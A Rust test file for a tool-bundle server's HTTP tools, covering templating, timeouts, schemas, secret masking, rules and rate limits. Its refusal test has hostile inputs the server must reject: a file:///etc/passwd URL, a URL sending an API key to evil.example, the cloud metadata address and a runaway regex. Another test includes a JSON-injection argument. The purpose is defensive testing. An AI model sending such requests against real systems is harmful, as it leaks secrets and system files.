//! Tools of bundles that make a request: every field of their `impl`, and what holds them.

use std::collections::BTreeMap;

use glee::app::{App, Call};
use glee_core::port::{Answer, Caller, Cancel, Waits};
use serde_json::{Value, json};
use std::sync::Arc;

use super::{House, said, tool};
use crate::support::{Scene, wiring};
use crate::upstream::Upstream;

struct Stage {
    house: House,
    upstream: Upstream,
    bundle: uuid::Uuid,
}

impl Stage {
    fn new() -> Stage {
        let upstream = Upstream::start();
        let scene = Scene::new();
        let config = format!(
            "bundles: {{allowed_hosts: ['127.0.0.1:{}'], secrets: [WEATHER_API_KEY]}}\n",
            upstream.port()
        );
        let house = House::with(scene, &config);
        let bundle = house.bundle("web");
        Stage {
            house,
            upstream,
            bundle,
        }
    }

    /// A tool with this `impl`, whose URL begins where the upstream is.
    fn tool(&self, how: Value, rest: Value) -> Value {
        let mut how = how;
        let url = how["urlTemplate"]
            .as_str()
            .unwrap()
            .replace("UP", &self.upstream.origin());
        how["urlTemplate"] = url.into();
        let mut body = json!({"type": "http", "impl": how, "argSchema": {
            "type": "object", "additionalProperties": false, "required": ["city"],
            "properties": {
                "city": {"type": "string", "description": "Where"},
                "days": {"type": "integer", "description": "How many"},
            },
        }});
        for (key, value) in rest.as_object().unwrap() {
            body[key] = value.clone();
        }
        body
    }

    /// What a call with these arguments gives.
    fn call(&self, version: &str, how: Value, rest: Value, args: Value) -> (u16, Value) {
        let at = tool(self.bundle, "t", version);
        self.house
            .expect(201, &format!("PUT {at}"), self.tool(how, rest));
        let reply = self
            .house
            .ask(&format!("POST {at}/invoke"), json!({"args": args}));
        (reply.status, said(&reply))
    }
}

/// As JSON Schema counts, and as some who write JSON write every number.
#[test]
fn a_whole_number_is_an_integer_however_it_is_written() {
    let stage = Stage::new();
    let how = json!({
        "urlTemplate": "UP/status/418", "successCodes": [200, 418.0], "timeoutMs": 5e3, "maxRetries": 0.0,
        "maxCallsPerMinute": 60.0, "maxConcurrentCalls": 2.0, "maxResponseBytes": 1e6,
    });
    let (status, out) = stage.call("whole", how.clone(), json!({}), json!({"city": "x"}));
    assert_eq!(
        (status, &out["value"]["status"]),
        (200, &json!(418)),
        "{out}"
    );
    let at = tool(stage.bundle, "t", "whole");
    let kept = stage.house.expect(200, &format!("GET {at}"), Value::Null);
    for field in ["successCodes", "timeoutMs", "maxRetries"] {
        assert_eq!(kept["impl"][field], how[field], "{kept}");
    }
    for (field, value) in [
        ("timeoutMs", json!(5.5)),
        ("timeoutMs", json!(0.0)),
        ("timeoutMs", json!(1e300)),
        ("successCodes", json!([200.5])),
        ("maxRetries", json!(-1.0)),
    ] {
        let mut how = json!({"urlTemplate": "UP/"});
        how[field] = value.clone();
        let at = tool(stage.bundle, "t", "broken");
        let body = stage.tool(how, json!({}));
        let refused = stage.house.ask(&format!("PUT {at}"), body);
        assert_eq!(refused.status, 400, "{field}: {value}");
    }
}

#[test]
fn every_field_does_what_it_says() {
    let stage = Stage::new();
    // Templates: arguments go where they are put, and cannot leave it.
    let (status, out) = stage.call(
        "url",
        json!({
            "method": "GET", "urlTemplate": "UP/echo/${city}?q=${city}&days=${days}",
            "headers": {"User-Agent": "MyApp/${version}", "X-City": "in ${city}"},
            "bodyTemplate": "", "successCodes": [200], "timeoutMs": 10000,
            "responseEncoding": "json", "extractExpr": "$.path", "errorMode": "fail",
        }),
        json!({}),
        json!({"city": "a/b?c&d"}),
    );
    assert_eq!(
        (status, &out["ok"], &out["value"]),
        (200, &json!(true), &json!("/echo/a%2Fb%3Fc%26d")),
        "{out}"
    );
    let seen = stage.upstream.requests().pop().unwrap();
    assert_eq!(seen.query, "q=a%2Fb%3Fc%26d");
    assert_eq!(seen.headers["user-agent"], "MyApp/url");
    assert_eq!(seen.headers["x-city"], "in a/b?c&d");

    // A body that is JSON stays the JSON its author wrote, with types kept.
    let (_, out) = stage.call(
        "body",
        json!({
            "method": "POST", "urlTemplate": "UP/echo",
            "bodyTemplate": "{\"city\": \"${city}\", \"days\": ${days}, \"fixed\": [1, true]}",
        }),
        json!({}),
        json!({"city": "x\",\"admin\":true,\"y\":\"", "days": 3}),
    );
    assert_eq!(out["ok"], true, "{out}");
    let sent: Value = serde_json::from_str(&stage.upstream.requests().pop().unwrap().body).unwrap();
    assert_eq!(
        sent,
        json!({"city": "x\",\"admin\":true,\"y\":\"", "days": 3, "fixed": [1, true]})
    );

    // Codes that are good.
    let (status, out) = stage.call(
        "codes",
        json!({"urlTemplate": "UP/status/418", "successCodes": [200, 418]}),
        json!({}),
        json!({"city": "x"}),
    );
    assert_eq!(
        (status, &out["value"]["status"]),
        (200, &json!(418)),
        "{out}"
    );
    let (status, out) = stage.call(
        "codes2",
        json!({"urlTemplate": "UP/status/201", "successCodes": [200]}),
        json!({}),
        json!({"city": "x"}),
    );
    assert_eq!(
        (status, &out["error"]["code"]),
        (502, &json!("HTTP_ERROR")),
        "{out}"
    );

    // Text, a pattern, and a pattern whose match is JSON.
    let echo = |encoding: &str, pattern: &str| json!({"urlTemplate": "UP/echo/${city}", "responseEncoding": encoding, "extractExpr": pattern});
    let (_, out) = stage.call("text", echo("text", ""), json!({}), json!({"city": "x"}));
    assert!(out["value"].as_str().unwrap().contains("/echo/x"), "{out}");
    let (_, out) = stage.call(
        "pattern",
        echo("text", "/echo/([a-z]+)"),
        json!({}),
        json!({"city": "x"}),
    );
    assert_eq!(out["value"], "x");
    let (_, out) = stage.call(
        "number",
        echo("json", "/echo/([0-9]+)"),
        json!({}),
        json!({"city": "12"}),
    );
    assert_eq!(out["value"], 12);
    let (status, out) = stage.call(
        "nothing",
        echo("text", "no such"),
        json!({}),
        json!({"city": "x"}),
    );
    assert_eq!(
        (status, &out["error"]["code"]),
        (502, &json!("OUTPUT_INVALID")),
        "{out}"
    );

    // Time, and what happens when a service fails.
    let (status, out) = stage.call(
        "slow",
        json!({"urlTemplate": "UP/slow", "timeoutMs": 200}),
        json!({}),
        json!({"city": "x"}),
    );
    assert_eq!(
        (status, &out["error"]["code"]),
        (504, &json!("TIMEOUT")),
        "{out}"
    );
    for (version, path, encoding, empty) in [
        ("e1", "status/500", "json", Value::Null),
        ("e2", "slow", "text", json!("")),
    ] {
        let how = json!({"urlTemplate": format!("UP/{path}"), "timeoutMs": 200, "responseEncoding": encoding, "errorMode": "empty"});
        let rest = json!({"outputSchema": {"type": "object"}});
        let (status, out) = stage.call(version, how, rest, json!({"city": "x"}));
        assert_eq!(
            (status, &out["ok"], &out["value"]),
            (200, &json!(true), &empty),
            "{out}"
        );
        assert_eq!(out["warnings"].as_array().unwrap().len(), 1);
    }
    let how = json!({"urlTemplate": "UP/echo", "extractExpr": "$.nothing", "errorMode": "empty"});
    let (_, out) = stage.call("e3", how, json!({}), json!({"city": "x"}));
    assert_eq!(
        (&out["ok"], &out["value"]),
        (&json!(true), &Value::Null),
        "{out}"
    );

    // What is promised is held, and arguments are too.
    let schema = json!({"outputSchema": {"type": "array"}});
    let (status, out) = stage.call(
        "schema",
        json!({"urlTemplate": "UP/echo"}),
        schema,
        json!({"city": "x"}),
    );
    assert_eq!(
        (status, &out["error"]["code"]),
        (502, &json!("OUTPUT_INVALID")),
        "{out}"
    );
    let before = stage.upstream.requests().len();
    let (status, out) = stage.call(
        "args",
        json!({"urlTemplate": "UP/echo"}),
        json!({}),
        json!({"city": 1, "days": "x"}),
    );
    assert_eq!(
        (status, &out["error"]["code"]),
        (400, &json!("INVALID_INPUT")),
        "{out}"
    );
    assert_eq!(
        out["error"]["details"]["violations"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    assert_eq!(stage.upstream.requests().len(), before);
}

#[test]
fn impl_blocks_that_are_none_are_refused() {
    let stage = Stage::new();
    let at = tool(stage.bundle, "bad", "1");
    for (how, pointer) in [
        (json!({"urlTemplate": "ftp://x/"}), "/impl/urlTemplate"),
        (
            json!({"urlTemplate": "file:///etc/passwd"}),
            "/impl/urlTemplate",
        ),
        (json!({"urlTemplate": "UP/${nothing}"}), "/impl/urlTemplate"),
        (json!({"urlTemplate": "UP/${HOME}"}), "/impl/urlTemplate"),
        (json!({"urlTemplate": "UP/${days}"}), "/impl/urlTemplate"),
        (
            json!({"urlTemplate": "https://evil.example/?k=${WEATHER_API_KEY}"}),
            "/impl/urlTemplate",
        ),
        (
            json!({"urlTemplate": "http://169.254.169.254/"}),
            "/impl/urlTemplate",
        ),
        (
            json!({"urlTemplate": "http://127.0.0.1:1/"}),
            "/impl/urlTemplate",
        ),
        (json!({"urlTemplate": "UP/", "method": "TRACE"}), "/impl"),
        (
            json!({"urlTemplate": "UP/", "headers": {"Host": "x"}}),
            "/impl/headers/Host",
        ),
        (
            json!({"urlTemplate": "UP/", "headers": {"a b": "x"}}),
            "/impl/headers/a b",
        ),
        (
            json!({"urlTemplate": "UP/", "bodyTemplate": "x"}),
            "/impl/bodyTemplate",
        ),
        (
            json!({"urlTemplate": "UP/", "method": "POST", "headers": {"Content-Type": "application/json"}, "bodyTemplate": "{\"a\": ${city}"}),
            "/impl/bodyTemplate",
        ),
        (
            json!({"urlTemplate": "UP/", "timeoutMs": 0}),
            "/impl/timeoutMs",
        ),
        (
            json!({"urlTemplate": "UP/", "timeoutMs": 3_600_001}),
            "/impl/timeoutMs",
        ),
        (
            json!({"urlTemplate": "UP/", "successCodes": [99]}),
            "/impl/successCodes",
        ),
        (
            json!({"urlTemplate": "UP/", "extractExpr": "("}),
            "/impl/extractExpr",
        ),
        (
            json!({"urlTemplate": "UP/", "extractExpr": "$.["}),
            "/impl/extractExpr",
        ),
        (
            json!({"urlTemplate": "UP/", "extractExpr": "$.a", "responseEncoding": "text"}),
            "/impl/extractExpr",
        ),
        (
            json!({"urlTemplate": "UP/", "extractExpr": "(x{1000}){1000}"}),
            "/impl/extractExpr",
        ),
        (
            json!({"urlTemplate": "UP/", "errorMode": "ignore"}),
            "/impl",
        ),
        (json!({"urlTemplate": "UP/", "retry": 3}), "/impl"),
    ] {
        let refused = stage.house.expect(
            400,
            &format!("PUT {at}"),
            stage.tool(how.clone(), json!({})),
        );
        let told = refused["error"]["details"]["violations"][0]["pointer"].clone();
        assert_eq!(told, pointer, "{how}: {refused}");
    }
    // A caller could stand in for the secret.
    let twin = json!({"argSchema": {"type": "object", "properties": {"WEATHER_API_KEY": {"type": "string"}}}});
    let body = stage.tool(json!({"urlTemplate": "UP/echo"}), twin);
    let refused = stage.house.expect(400, &format!("PUT {at}"), body);
    assert!(
        refused.to_string().contains("name of a secret"),
        "{refused}"
    );
    assert_eq!(stage.house.files(stage.bundle), ["bundle.json"]);
}

/// A host or a secret that the config names no more is out of reach at once, for tools that are there.
#[test]
fn what_the_config_takes_away_is_gone() {
    let stage = Stage::new();
    let at = tool(stage.bundle, "a", "1");
    let how = json!({"urlTemplate": "UP/echo"});
    stage
        .house
        .expect(201, &format!("PUT {at}"), stage.tool(how, json!({})));
    let call = || {
        stage
            .house
            .ask(&format!("POST {at}/invoke"), json!({"args": {"city": "x"}}))
    };
    assert_eq!(call().status, 200);
    stage.house.scene.write(".glee/config.yml", "");
    crate::mcp::server::eventually("the host is out of reach", || call().status == 409);
    let seen = stage.upstream.requests().len();
    let told = stage.house.expect(200, &format!("GET {at}"), Value::Null);
    assert!(
        told["disabledReason"]
            .as_str()
            .unwrap()
            .contains("allowed_hosts"),
        "{told}"
    );
    assert_eq!(stage.upstream.requests().len(), seen);
}

/// A secret goes where the author put it, and comes back as a mask.
#[test]
fn secrets_of_the_project() {
    let stage = Stage::new();
    let at = tool(stage.bundle, "a", "1");
    let how = json!({"urlTemplate": "UP/echo?key=${WEATHER_API_KEY}", "headers": {"X-Key": "${WEATHER_API_KEY}"}});
    stage
        .house
        .expect(201, &format!("PUT {at}"), stage.tool(how, json!({})));
    // The server has none.
    let refused = stage.house.expect(
        424,
        &format!("POST {at}/invoke"),
        json!({"args": {"city": "x"}}),
    );
    assert_eq!(refused["error"]["code"], "SECRET_NOT_FOUND");
    assert!(stage.upstream.requests().is_empty());

    let secrets = BTreeMap::from([(
        "WEATHER_API_KEY".to_owned(),
        "s3cret-weather-key".to_owned(),
    )]);
    let nobody = Answer::Nobody {
        hint: String::new(),
    };
    let app = App::open(stage.house.scene.project(), wiring(secrets, nobody)).unwrap();
    let call = app.call(Call {
        tool: "web.a.1".to_owned(),
        args: json!({"city": "x"}).as_object().unwrap().clone(),
        caller: Caller {
            name: "user".to_owned(),
        },
        timeout: None,
        cancel: Cancel::never(),
        party: Arc::new(Waits),
        approval: None,
    });
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    let outcome = runtime.block_on(call);
    let output = outcome.result.unwrap();
    assert!(!output.value.to_string().contains("s3cret"), "{output:?}");
    let seen = stage.upstream.requests().pop().unwrap();
    assert_eq!(
        (seen.query.as_str(), seen.headers["x-key"].as_str()),
        ("key=s3cret-weather-key", "s3cret-weather-key")
    );
}

/// Tools of bundles are held to the rules of the project like all others.
#[test]
fn rules_hold_for_tools_of_bundles() {
    let upstream = Upstream::start();
    let config = format!(
        "bundles: {{allowed_hosts: ['127.0.0.1:{}']}}
rules:
  - {{name: no-web, tools: ['web.*'], decision: deny, reason: not today}}
",
        upstream.port()
    );
    let house = House::with(Scene::new(), &config);
    let bundle = house.bundle("web");
    let at = tool(bundle, "a", "1");
    let body =
        json!({"type": "http", "impl": {"urlTemplate": format!("{}/echo", upstream.origin())}});
    house.expect(201, &format!("PUT {at}"), body);
    let refused = house.expect(403, &format!("POST {at}/invoke"), json!({}));
    assert_eq!(refused["error"]["code"], "RULE_DENIED", "{refused}");
    assert!(upstream.requests().is_empty());
    let log = std::fs::read_to_string(house.scene.root.join(".glee/audit/tools.log")).unwrap();
    assert!(log.contains("TOOL_REFUSED name=web.a.1"), "{log}");
}

/// `DO-05`: one caller has only so many calls under way; more are refused at once, and reach nobody.
#[test]
fn do_05_only_so_many_calls_at_once() {
    const MOST: usize = 128;
    let stage = Stage::new();
    let at = tool(stage.bundle, "a", "1");
    let how = json!({"urlTemplate": "UP/slow", "timeoutMs": 600_000});
    let line = format!("POST {at}/invoke");
    let body = json!({"args": {"city": "x"}});
    stage
        .house
        .expect(201, &format!("PUT {at}"), stage.tool(how, json!({})));
    let waiting: Vec<_> = (0..MOST)
        .map(|_| {
            stage
                .house
                .served
                .rest_stream(&line, &stage.house.owner, &[], &body)
        })
        .collect();
    crate::mcp::server::eventually("all are under way", || {
        stage.upstream.requests().len() == MOST
    });
    let refused = stage.house.expect(429, &line, body.clone());
    assert_eq!(refused["error"]["code"], "RATE_LIMITED");
    assert_eq!(stage.upstream.requests().len(), MOST);
    drop(waiting);
    crate::mcp::server::eventually("there is room again", || {
        let stream = stage
            .house
            .served
            .rest_stream(&line, &stage.house.owner, &[], &body);
        std::thread::sleep(std::time::Duration::from_millis(50));
        drop(stream);
        stage.upstream.requests().len() > MOST
    });
}
